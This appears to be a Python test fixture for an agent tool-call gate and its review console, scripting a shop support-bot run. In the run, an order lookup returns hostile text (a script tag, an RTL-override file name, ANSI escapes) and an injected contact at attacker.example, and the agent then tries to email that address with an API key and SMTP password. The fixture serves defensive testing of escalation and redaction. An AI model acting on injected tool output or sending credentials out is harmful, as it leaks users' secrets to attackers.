"""A small shop whose run leaves the console something to show: reads, a schema rejection,
a refund waiting for a person, an email escalated by provenance, hostile text everywhere.

Shared by the console's HTTP tests, the browser test and ``docs/screenshots.py``.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Annotated, Any

from pydantic import Field
from starlette.applications import Starlette

import servers
from callgate import Authority, Gate, Policy, Registry, Run, ToolCall, allow, ask
from callgate.agent.transcript import Recorder
from callgate.ledger import Ledger
from callgate.redact import Redactor

HOSTILE = '<script>alert("x")</script> it\'s \u202egnp.exe\u202c \x1b[31mred\x1b[0m'
"""Markup, quotes, a right-to-left override and an ANSI escape: what a tool or model may send."""
INJECTED_EMAIL = "claims@attacker.example"
API_KEY = "sk-live-abcdefghijklmnop1234"
"""Credential-shaped text a model put in an argument: redacted wherever it is shown."""
SMTP_PASSWORD = "hunter2-smtp-secret"
"""The value of a secret field: never stored, never shown."""
CUSTOMER = "Please refund order o-1, it arrived broken. Write to me at dana@example.com."
AUTHORITY = Authority(
    principal="support-bot",
    grants=["read:orders", "write:orders", "spend:USD<=100", "send:email"],
)
POLICY = Policy(
    [
        allow("get_order"),
        ask("refund", name="refunds need a person"),
        allow("send_email"),
    ]
)
TOKEN = "tok-console-test-0123456789"
"""The reviewer's token in the tests (16+ characters)."""


def registry(effects: list[dict[str, Any]]) -> Registry:
    """get_order (read), refund (asks a person), send_email (its recipient is a sink)."""
    reg = Registry()

    @reg.tool(effects="read:orders", risk="read")
    def get_order(order_id: Annotated[str, Field(pattern=r"^o-\d+$")]) -> dict[str, Any]:
        """Read an order."""
        return {
            "order_id": order_id,
            "status": "delivered",
            "total": 60.0,
            "note": HOSTILE,
            "support_contact": INJECTED_EMAIL,
        }

    @reg.tool(
        effects=["write:orders", "spend:USD={amount}"],
        preview=lambda a: f"refund {a.amount:.2f} USD on {a.order_id}",  # type: ignore[attr-defined]
    )
    def refund(order_id: str, amount: float, reason: str) -> dict[str, Any]:
        """Refund an order."""
        effects.append({"tool": "refund", "order_id": order_id, "amount": amount})
        return {"refunded": amount, "order_id": order_id, "status": "refunded"}

    @reg.tool(effects="send:email", sinks={"to": "email"}, secret_fields=["smtp_password"])
    def send_email(to: str, body: str, smtp_password: str = "") -> str:
        """Email someone."""
        effects.append({"tool": "send_email", "to": to})
        return f"sent to {to}"

    return reg


def gate(ledger: Ledger, effects: list[dict[str, Any]]) -> Gate:
    """The shop's gate over ``ledger``."""
    return Gate(registry(effects), policy=POLICY, ledger=ledger)


@dataclass
class Scenario:
    """What `play` left in the ledger."""

    gate: Gate
    run: Run
    refund_approval: str
    email_approval: str
    effects: list[dict[str, Any]]


def play(ledger: Ledger) -> Scenario:
    """One run: a read, a schema rejection, a refund that waits, an escalated email."""
    effects: list[dict[str, Any]] = []
    g = gate(ledger, effects)
    run = g.run(authority=AUTHORITY, trusted=[CUSTOMER])
    said = Recorder(ledger, run.id, Redactor(), None)
    said("agent.started", {"model": "scripted", "principal": AUTHORITY.principal, "user": CUSTOMER})
    said("agent.model", {"step": 1, "text": "Let me look the order up.", "calls": []})
    run.submit([ToolCall(id="call_1", name="get_order", arguments={"order_id": "o-1"})])
    said("agent.model", {"step": 2, "text": "The order says: " + HOSTILE, "calls": []})
    run.submit([ToolCall(id="call_2", name="get_order", arguments={"order_id": HOSTILE})])
    refund = run.submit(
        [
            ToolCall(
                id="call_3",
                name="refund",
                arguments={
                    "order_id": "o-1",
                    "amount": 60.0,
                    "reason": "arrived broken " + HOSTILE,
                },
            )
        ]
    )[0]
    email = run.submit(
        [
            ToolCall(
                id="call_4",
                name="send_email",
                arguments={
                    "to": INJECTED_EMAIL,
                    "body": "Order o-1 details; api key " + API_KEY,
                    "smtp_password": SMTP_PASSWORD,
                },
            )
        ]
    )[0]
    assert refund.approval_id is not None, refund
    assert email.approval_id is not None, email
    return Scenario(
        gate=g,
        run=run,
        refund_approval=refund.approval_id,
        email_approval=email.approval_id,
        effects=effects,
    )


@contextmanager
def serving(app: Starlette) -> Iterator[str]:
    """``app`` served by uvicorn on 127.0.0.1 in a thread; yields its base URL."""
    with servers.serving(app, what="console", lifespan="off") as base:
        yield base
